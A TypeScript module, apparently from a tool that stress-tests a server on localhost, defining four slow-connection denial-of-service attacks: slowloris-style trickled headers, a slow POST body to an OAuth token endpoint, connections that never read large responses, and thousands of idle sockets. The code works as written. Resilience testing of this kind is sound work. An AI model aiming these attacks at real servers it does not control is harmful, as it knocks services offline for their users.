import { setTimeout as delay } from 'node:timers/promises';
import type { Socket } from 'node:net';
import { headOf, open } from '../raw-socket.ts';
import type { Attack, Target } from '../target.ts';

/** Opens so many connections, does something with each now and then, and leaves all at the end. */
async function holdOpen(
  target: Target,
  count: number,
  tend: (socket: Socket, turn: number) => void,
): Promise<void> {
  const sockets: Socket[] = [];
  try {
    for (let left = count; left > 0 && performance.now() < target.ends; left -= 50) {
      const more = Array.from({ length: Math.min(50, left) }, () => open(target).catch(() => null));
      sockets.push(...(await Promise.all(more)).filter((socket) => socket !== null));
    }
    for (let turn = 0; performance.now() < target.ends; turn += 1) {
      for (const socket of sockets) if (!socket.destroyed) tend(socket, turn);
      await delay(500);
    }
  } finally {
    for (const socket of sockets) {
      target.count(socket.destroyed ? 'closed by the server' : 'held open');
      socket.destroy();
    }
  }
}

const slowHeaders: Attack = (target) =>
  holdOpen(target, 400, (socket, turn) => {
    socket.resume();
    socket.write(turn === 0 ? 'GET / HTTP/1.1\r\nhost: localhost\r\n' : `x-${turn}: a\r\n`);
  });

const slowBodies: Attack = (target) => {
  const head = headOf(
    'POST /api/oauth/token HTTP/1.1',
    'host: localhost',
    'content-type: application/json',
    'content-length: 1000',
  );
  return holdOpen(target, 400, (socket, turn) => {
    socket.resume();
    socket.write(turn === 0 ? head : ' ');
  });
};

/** Asks for large answers and leaves them in the socket. */
const neverReading: Attack = (target) => {
  // Answers have a megabyte and a half.
  const path = '/api/docs/static/swagger-ui-bundle.js';
  const head = headOf(`GET ${path} HTTP/1.1`, 'host: localhost');
  return holdOpen(target, 100, (socket, turn) => {
    socket.pause();
    if (turn === 0) socket.write(head.repeat(9));
  });
};

const idle: Attack = (target) => holdOpen(target, 2000, (socket) => socket.resume());

export const slow = {
  'slow-headers': slowHeaders,
  'slow-bodies': slowBodies,
  'never-reading': neverReading,
  'idle-connections': idle,
} as const;
